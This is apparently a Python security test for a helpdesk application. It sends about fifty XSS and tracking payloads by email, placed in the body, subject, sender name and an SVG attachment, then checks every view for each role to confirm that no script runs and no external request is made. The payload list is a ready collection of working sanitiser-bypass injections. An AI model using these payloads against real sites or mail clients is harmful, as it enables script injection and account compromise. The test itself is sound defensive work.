"""S1, S2: mails that try to run, or to call home, opened in every view as every role that can see them."""

import smtplib
from email.message import EmailMessage

from desk import eventually

CANARY = "https://canary.invalid/pixel"
RUN = "window.pwned=1;alert(1)"

# Each is put into the HTML body, and its plain form into subject, name and file name as well.
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC='{CANARY}.js'></SCRIPT>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src='{CANARY}.png'><img srcset='{CANARY}-2.png 2x'>",
    f"<svg onload='{RUN}'><circle r=1 /></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror='{RUN}'></style></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>go</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></iframe></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror='{RUN}'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.pwned=1&lt;/script&gt;'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object><embed src='{CANARY}.swf'>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<a href='java&#10;script:{RUN}'>click</a>",
    f"<a href=' &#1; javascript:{RUN}'>click</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>click</a>",
    f"<a href='vbscript:msgbox(1)'>click</a>",
    f"<form action='{CANARY}'><input name=q autofocus onfocus='{RUN}'><button formaction='javascript:{RUN}'>x</button></form>",
    f"<style>@import '{CANARY}.css'; body{{background:url({CANARY}.png)}}</style>",
    f"<div style='background:url({CANARY}.png);width:expression({RUN})'>x</div>",
    f"<link rel=stylesheet href='{CANARY}.css'><link rel=prefetch href='{CANARY}'>",
    f"<meta http-equiv=refresh content='0;url={CANARY}'><base href='{CANARY}/'>",
    f"<body onload='{RUN}' background='{CANARY}.png'>",
    f"<table background='{CANARY}.png'><tr><td background='{CANARY}'>x</td></tr></table>",
    f"<video src='{CANARY}.mp4' poster='{CANARY}.png' onerror='{RUN}'></video><audio src='{CANARY}.mp3'></audio>",
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<marquee onstart='{RUN}'>x</marquee>",
    f"<input type=image src='{CANARY}.png' onerror='{RUN}'>",
    f"<textarea autofocus onfocus='{RUN}'></textarea><select autofocus onfocus='{RUN}'></select>",
    f"<template><script>{RUN}</script></template><template shadowrootmode=open><img src=x onerror='{RUN}'></template>",
    f"<xmp><img src=x onerror='{RUN}'></xmp><plaintext><script>{RUN}</script>",
    f"<!--<img src='--><img src=x onerror={RUN}//'>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<img src='cid:x\" onerror=\"{RUN}'>",
    f"<img alt='` onerror={RUN} `' src='`'>",
    f"<p id=x onclick='{RUN}' onmouseover='{RUN}' tabindex=1 onfocus='{RUN}' autofocus>x</p>",
    f"<a name=csrf></a><form id=x></form><img name=getElementById>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<div><style></div><img src=x onerror='{RUN}'></style></div>",
    f"<a><b></a><script>{RUN}</script></b>",
    f"<<script>script>{RUN}<</script>/script>",
    f"<img/src/onerror={RUN}>",
    f"\"><script>{RUN}</script>",
    f"'-{RUN}-'",
    f"</title></textarea></script><script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= 7*7 %>",
    f"<audio/onloadstart='{RUN}' src=x:></audio><svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
]


def attack(number, payload, sender, mailbox):
    message = EmailMessage()
    one_line = " ".join(payload.split())
    message["From"] = f'"{one_line[:120].replace(chr(92), "").replace(chr(34), chr(39))}" <{sender}>'
    message["To"] = mailbox
    message["Subject"] = f"Attack {number} {one_line[:150]}"
    message["Message-ID"] = f"<attack.{number}.{abs(hash(payload))}@client.example>"
    message.set_content(f"Phone: +1 575 555 0142\nProject: {one_line}\nSite: {one_line}\nEnvironment: x\nUrgency: 2\n\n{payload}\n")
    message.add_alternative(f"<html><body><p>Attack {number}</p>{payload}</body></html>", subtype="html", charset="utf-7" if payload.startswith("+ADw") else "utf-8")
    message.add_attachment(f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>".encode(), maintype="image", subtype="svg+xml", filename=f"{one_line[:60]}.svg")
    return message


def test_S1_S2_attack_mails_run_nothing_and_call_nobody(desk, people):
    client = desk.account("client")
    with smtplib.SMTP(*desk.smtp) as connection:
        for number, payload in enumerate(PAYLOADS):
            # Half come from somebody known, half from strangers.
            sender = client["email"] if number % 2 == 0 else f"x{number}@evil.example"
            connection.send_message(attack(number, payload, sender, desk.mailbox), sender, [desk.mailbox])
    api = desk.api("agent")

    def arrived():
        items = api.get("/tickets", params={"limit": 200, "sort": "-logged"})["items"]
        return [ticket for ticket in items if ticket["subject"].startswith("Attack ")] if len([t for t in items if t["subject"].startswith("Attack ")]) >= len(PAYLOADS) else None

    tickets = eventually("every attack is a ticket", arrived, 30)
    assert len(tickets) == len(PAYLOADS)
    for role in ("agent", "administrator", "primaryContact"):
        page = people(desk, desk.account(role))
        foreign, dialogs = [], []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: foreign.append(request.url) if not request.url.startswith((desk.http, "data:", "about:", "blob:")) else None)
        paths = {"agent": ["/tickets", "/tickets?view=unassigned", "/outbox", "/mail", "/strangers"], "administrator": ["/outbox", "/mail"], "primaryContact": ["/portal"]}[role]
        if role == "agent":
            for ticket in tickets:
                paths.append(f"/tickets/{ticket['ref']}")
                paths += [f"/tickets/{ticket['ref']}/messages/{message['id']}/html" for message in api.get(f"/tickets/{ticket['ref']}/messages")["items"] if message.get("html")]
        if role == "administrator":
            page.goto("/outbox")
            paths += page.eval_on_selector_all("[data-part=outbox] tbody a", "links => links.map(link => new URL(link.href).pathname).filter(path => path.startsWith('/outbox/')).slice(0, 10)")
        if role == "primaryContact":
            paths += [f"/portal/tickets/{ticket['ref']}" for ticket in tickets if ticket["client"]]
        for path in paths:
            answer = page.goto(path)
            assert answer.ok, (role, path, answer.status)
            for frame in page.frames:
                assert not frame.evaluate("window.pwned"), (role, path)
            assert page.locator("img[src^='http'], script:not([src]), [onerror], [onload]").count() == 0, (role, path)
        assert not dialogs and not foreign, (role, dialogs, foreign)
